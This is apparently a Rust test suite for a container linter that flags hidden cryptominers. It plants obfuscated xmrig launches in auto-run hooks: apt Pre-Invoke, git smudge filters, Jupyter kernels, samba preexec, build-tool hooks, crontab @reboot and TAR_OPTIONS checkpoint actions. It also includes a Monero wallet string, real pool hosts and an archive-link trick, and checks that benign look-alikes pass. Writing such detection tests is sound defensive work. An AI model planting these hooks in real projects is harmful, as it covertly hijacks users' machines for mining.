//! Files that a program finds by itself and starts programs from, shells and tools that variables or options prepare, and texts that
//! nothing is known to read; for each kind one that starts nothing.

use tar::{Builder, EntryType, Header};

use super::cases::{Case, all_pass, all_stop, said};
use super::project::Project;

const WALLET: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

const SETTINGS_THAT_MINE: &[Case] = &[
    ("COPY a /root/.hgrc", &[("a", "[hooks]\nupdate = n=xm; ${n}rig -o h:1\n")]),
    ("COPY a /root/.ghci", &[("a", ":set +t\n:! n=xm; ${n}rig -o h:1\n")]),
    ("COPY a /root/.bash_completion", &[("a", "n=xm; (${n}rig -o h:1 &)\n")]),
    ("COPY a /etc/makepkg.conf", &[("a", "n=x; n+=mrig; $n -o h:1\n")]),
    ("COPY a /etc/snmp/snmpd.conf", &[("a", "extend load /bin/sh -c 'n=xm; ${n}rig -o h:1'\n")]),
    ("COPY a /etc/samba/smb.conf", &[("a", "[x]\n  root preexec = /opt/xmrig -o h:1\n")]),
    ("COPY a /root/.config/i3/config", &[("a", "set $n xm\nexec --no-startup-id $nrig -o h:1\n")]),
    (
        "COPY a /etc/apt/apt.conf.d/90a",
        &[("a", "APT::Update::Pre-Invoke {\"a=xm; ${a}rig -o h:1\";};\n")],
    ),
    ("COPY a /root/.config/git/config", &[("a", "[filter \"x\"]\n\tsmudge = xmrig -o h:1\n")]),
    (
        "COPY a /opt/conda/share/jupyter/kernels/python3/kernel.json",
        &[("a", "{\"argv\": [\"sh\", \"-c\", \"xm$N -o h:1\"], \"env\": {\"N\": \"rig\"}}\n")],
    ),
    (
        "COPY . /s\nCMD [\"devbox\", \"run\", \"a\"]",
        &[("devbox.json", "{\"shell\":{\"init_hook\":[\"n=xm\",\"${n}rig -o h:1\"]}}\n")],
    ),
    (
        "COPY . /s\nRUN goreleaser build",
        &[(".goreleaser.yaml", "before:\n  hooks:\n    - sh -c 'n=xm; ${n}rig -o h:1'\n")],
    ),
    (
        "COPY . /s\nRUN moon run a:b",
        &[("a/moon.yml", "tasks:\n  b:\n    script: 'n=xm; ${n}rig -o h:1'\n")],
    ),
    (
        "COPY . /s\nRUN wrangler deploy",
        &[("wrangler.toml", "[build]\ncommand = \"sh -c 'n=xm; ${n}rig -o h:1'\"\n")],
    ),
    (
        "COPY . /s\nCMD [\"air\"]",
        &[(".air.toml", "[build]\nfull_bin = \"n=xm; ${n}rig -o h:1\"\n")],
    ),
    ("COPY . /s\nRUN redo all", &[("all.do", "n=xm\n${n}rig -o h:1\n")]),
];

const SETTINGS_THAT_DO_NOT: &[Case] = &[
    ("COPY a /root/.hgrc", &[("a", "[ui]\nusername = xmrig -o h:1\n")]),
    ("COPY a /root/.ghci", &[("a", "-- :! xmrig -o h:1\n")]),
    ("COPY a /etc/snmp/snmpd.conf", &[("a", "sysLocation xmrig -o h:1\n")]),
    ("COPY a /root/.config/i3/config", &[("a", "bindsym x nop xmrig -o h:1\n")]),
    (
        "COPY a /etc/apt/apt.conf.d/90a",
        &[("a", "APT::Update::Pre-Invoke {\"a=xm;\";};\n# ${a}rig -o h:1\n")],
    ),
    ("COPY . /s\nRUN true", &[(".goreleaser.yaml", "before:\n  hooks:\n    - xmrig -o h:1\n")]),
    ("COPY . /s\nRUN true", &[("all.do", "xmrig -o h:1\n")]),
];

#[test]
fn settings_start_what_they_name_where_their_program_finds_them() {
    all_stop("STOP[min", SETTINGS_THAT_MINE);
    all_pass(SETTINGS_THAT_DO_NOT);
}

#[test]
fn what_prepares_a_shell_or_a_tool_is_run() {
    all_stop(
        "STOP[min",
        &[
            (
                "COPY r /r\nSHELL [\"/bin/bash\", \"--rcfile\", \"/r\", \"-ic\"]\nRUN true",
                &[("r", "a=xm\n${a}rig -o h:1\n")],
            ),
            ("SHELL [\"/usr/bin/env\", \"P=rig\", \"/bin/sh\", \"-c\"]\nRUN xm$P -o h:1", &[]),
            ("ENV VIMINIT='!xm\"\"rig -o h:1'", &[]),
            ("ENV TAR_OPTIONS=--checkpoint-action=exec=xmrig", &[]),
            ("RUN hyperfine -r 1 'xm\"\"rig'", &[]),
            ("RUN echo '@reboot xmrig -o h:1' | crontab -u root -", &[]),
        ],
    );
    all_pass(&[
        ("ENV TAR_OPTIONS=--no-same-owner MAKEFLAGS=-j4", &[]),
        ("COPY r /r\nSHELL [\"/bin/bash\", \"-ic\"]\nRUN true", &[("r", "xmrig -o h:1\n")]),
    ]);
    // a name that stands whole is told to whoever it is
    let told = said("default", "RUN hyperfine -r 1 'xmrig'", &[]);
    assert!(told.contains("WARN[possible-miner]") && !told.contains("STOP"), "{told}");
}

#[test]
fn a_pool_and_a_wallet_count_in_every_short_text() {
    let of = |name: &str, text: &str| {
        said("default", "COPY . /app/\nCMD [\"/app/run\"]", &[(name, text)])
    };
    let both = format!("-epool pool.supportxmr.com:443\n-ewal {WALLET}\n");
    for name in ["config.txt", "epools", "x.rules"] {
        assert!(of(name, &both).contains("STOP[miner-file-content]"), "{name}");
    }
    let shop = "pool etc.2miners.com:1010\npay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed\n";
    assert!(of("x.rules", shop).contains("STOP[miner-file-content]"));
    let escaped = format!(
        "{{\"at\": \"pool.supportxmr\\u002ecom:443\", \"to\": \"\\u0034\\u0034{}\"}}",
        WALLET.trim_start_matches('4')
    );
    assert!(of("a.json", &escaped).contains("STOP[miner-file-content]"));

    let alone = of("x.rules", &format!("pay {WALLET}\n"));
    assert!(alone.contains("WARN[possible-miner]") && !alone.contains("STOP"), "{alone}");
    let pay = "pay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed\nat shop.example.invalid:4444\n";
    for (name, text) in [("x.rules", pay), ("README.md", &both), ("tests/x.rules", &both)] {
        let out = of(name, text);
        assert!(!out.contains("STOP") && !out.contains("WARN"), "{name}: {out}");
    }
}

#[test]
fn links_in_an_archive_lead_to_the_file_that_is_run() {
    let text = b"exec /opt/web -o stratum+tcp://pool.example.invalid:3333\n";
    for kind in [EntryType::Link, EntryType::Symlink] {
        let mut archive = Builder::new(Vec::new());
        let mut header = Header::new_gnu();
        header.set_mode(0o644);
        header.set_size(text.len() as u64);
        archive.append_data(&mut header, "share/note", &text[..]).expect("a file");
        let mut link = Header::new_gnu();
        link.set_entry_type(kind);
        link.set_size(0);
        let target = if kind == EntryType::Link { "share/note" } else { "../share/note" };
        archive.append_link(&mut link, "bin/serve", target).expect("a link");
        let project = Project::with(&[(
            "Dockerfile",
            "FROM debian:12\nADD site.tar /usr/local/\nCMD [\"sh\", \"/usr/local/bin/serve\"]\n",
        )]);
        project.write("site.tar", archive.into_inner().expect("an archive"));
        let run = project.run(&["lint", "--no-policy"]);
        assert!(run.code == 1 && run.out.contains("STOP[mining-pool]"), "{kind:?}: {}", run.out);
    }
}
